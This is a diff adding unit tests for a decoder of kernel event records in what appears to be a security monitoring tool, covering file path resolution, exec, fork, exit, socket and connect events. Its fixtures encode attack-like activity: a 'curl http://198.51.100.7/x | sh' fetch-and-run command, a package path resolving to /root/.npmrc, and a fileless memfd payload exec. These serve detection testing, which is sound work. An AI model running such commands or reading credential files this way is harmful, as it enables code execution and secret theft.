@@ -3,7 +3,7 @@
 // payloads (a DNS query, a TLS ClientHello) and the malformed cases.
 import { describe, expect, test } from "bun:test";
 import { DecodeError, decodeFrames, decodeRecord, ipv6, parseClientHelloSni, parseDnsQuery } from "./decode.ts";
-import { FLAG, LAYOUT, OP, PAYLOAD, SOURCES } from "./opcodes.ts";
+import { FLAG, LAYOUT, OP, PATHF, PAYLOAD, SOURCES } from "./opcodes.ts";
 
 const H = LAYOUT.fangs_hdr;
 const enc = new TextEncoder();
@@ -88,6 +88,70 @@ describe("round trips", () => {
     r.dv.setUint32(L.argc, 3, true);
     r.dv.setUint32(L.args_len, args.length, true);
     expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_execve"), kind: "exec", filename: "/bin/sh", argv: ["sh", "-c", "curl http://198.51.100.7/x | sh"], argv_truncated: true });
+  });
+
+  // What the kernel resolved vs what was asked for (bpf/lib/path.h).
+  const paths = [
+    { name: "resolved through a symlink keeps the request", pf: PATHF.RESOLVED, req: "/app/node_modules/top/package.json", res: "/root/.npmrc", want: { path: "/root/.npmrc", requested: "/app/node_modules/top/package.json" } },
+    { name: "resolved equal to the request adds nothing", pf: PATHF.RESOLVED, req: "/etc/hosts", res: "/etc/hosts", want: { path: "/etc/hosts" } },
+    { name: "a failed relative open is joined to its base directory", pf: PATHF.BASE_ONLY, req: "../.npmrc", res: "/app/x", ret: -2, want: { path: "/app/x/../.npmrc", requested: "../.npmrc", errno: 2 } },
+    { name: "a cut request with nothing resolved is marked truncated", pf: PATHF.REQ_TRUNCATED, req: "/app/node_modules/top/package.json/./.", res: "", ret: -20, want: { path: "/app/node_modules/top/package.json/./.", path_truncated: true, errno: 20 } },
+    { name: "a cut request the kernel resolved whole is not truncated", pf: PATHF.REQ_TRUNCATED | PATHF.RESOLVED, req: "/a/./.", res: "/root/.npmrc", want: { path: "/root/.npmrc", requested: "/a/./." } },
+    { name: "a resolution that hit its bound is truncated", pf: PATHF.RESOLVED | PATHF.RES_TRUNCATED, req: "x", res: "/deep/x", want: { path: "/deep/x", requested: "x", path_truncated: true } },
+    { name: "an unreadable request", pf: PATHF.REQ_UNREADABLE, req: "", res: "", want: { path: "", unreadable: true } },
+    { name: "an unlinked file", pf: PATHF.RESOLVED | PATHF.DELETED, req: "/tmp/x", res: "/tmp/x", want: { path: "/tmp/x (deleted)", requested: "/tmp/x" } },
+  ];
+  for (const c of paths) {
+    test(`file path: ${c.name}`, () => {
+      const L = LAYOUT.fangs_file_ev;
+      const r = record(L.size, { op: OP.FILE, source: "sys_exit_openat" });
+      r.dv.setInt32(L.dirfd, -100, true);
+      r.dv.setUint32(L.path_flags, c.pf, true);
+      r.dv.setInt32(L.ret, c.ret ?? 3, true);
+      r.str(L.path, c.req);
+      r.str(L.resolved, c.res);
+      expect(decodeRecord(r.b)).toEqual({ ...common("sys_exit_openat"), kind: "file", flags: 0, access: "read", dirfd: -100, ...c.want });
+    });
+  }
+
+  test("exec: a failed attempt carries its errno; a memfd exec is fileless", () => {
+    const L = LAYOUT.fangs_exec_ev;
+    const failed = record(L.size, { op: OP.EXEC, source: "sys_exit_execve" });
+    failed.str(L.filename, "/usr/bin/curl");
+    failed.dv.setInt32(L.ret, -2, true);
+    expect(decodeRecord(failed.b)).toEqual({ ...common("sys_exit_execve"), kind: "exec", filename: "/usr/bin/curl", argv: [], errno: 2 });
+    const memfd = record(L.size, { op: OP.EXEC, source: "sched_process_exec" });
+    memfd.str(L.filename, "/dev/fd/3");
+    memfd.str(L.resolved, "memfd:payload");
+    memfd.dv.setUint32(L.path_flags, PATHF.RESOLVED | PATHF.DETACHED | PATHF.EMPTY_PATH, true);
+    expect(decodeRecord(memfd.b)).toEqual({ ...common("sched_process_exec"), kind: "exec", filename: "memfd:payload", requested: "/dev/fd/3", argv: [], fileless: true });
+  });
+
+  test("fork, exit and raw socket records", () => {
+    const F = LAYOUT.fangs_fork_ev, X = LAYOUT.fangs_exit_ev, S = LAYOUT.fangs_socket_ev;
+    const f = record(F.size, { op: OP.FORK, source: "sched_process_fork" });
+    f.dv.setUint32(F.child_pid, 4321, true);
+    expect(decodeRecord(f.b)).toEqual({ ...common("sched_process_fork"), kind: "fork", child_pid: 4321 });
+    const x = record(X.size, { op: OP.EXIT, source: "sched_process_exit" });
+    x.dv.setInt32(X.exit_code, 9, true); // killed by SIGKILL
+    expect(decodeRecord(x.b)).toEqual({ ...common("sched_process_exit"), kind: "exit", exit_code: 0, signal: 9 });
+    x.dv.setInt32(X.exit_code, 3 << 8, true);
+    expect(decodeRecord(x.b)).toEqual({ ...common("sched_process_exit"), kind: "exit", exit_code: 3 });
+    const s = record(S.size, { op: OP.SOCKET, source: "sys_enter_socket" });
+    s.dv.setUint32(S.family, 17, true);
+    s.dv.setUint32(S.type, 3, true);
+    s.dv.setUint32(S.protocol, 768, true);
+    expect(decodeRecord(s.b)).toEqual({ ...common("sys_enter_socket"), kind: "socket", family: "packet", type: "raw", protocol: 768 });
+    // each new record is size-checked like the old ones
+    expect(() => decodeRecord(f.b.subarray(0, F.size - 1))).toThrow(DecodeError);
+    expect(() => decodeRecord(s.b.subarray(0, S.size - 1))).toThrow(DecodeError);
+  });
+
+  test("a connect whose address could not be read is an unreadable destination, not nothing", () => {
+    const L = LAYOUT.fangs_net_ev;
+    const r = record(L.size, { op: OP.CONNECT, source: "sys_enter_sendto", flags: FLAG.READ_FAILED });
+    r.dv.setUint16(L.sock_type, 2, true);
+    expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_sendto"), kind: "connect", family: "inet", address: "", port: 0, proto: "udp", unreadable: true });
   });
 
   const nets = [
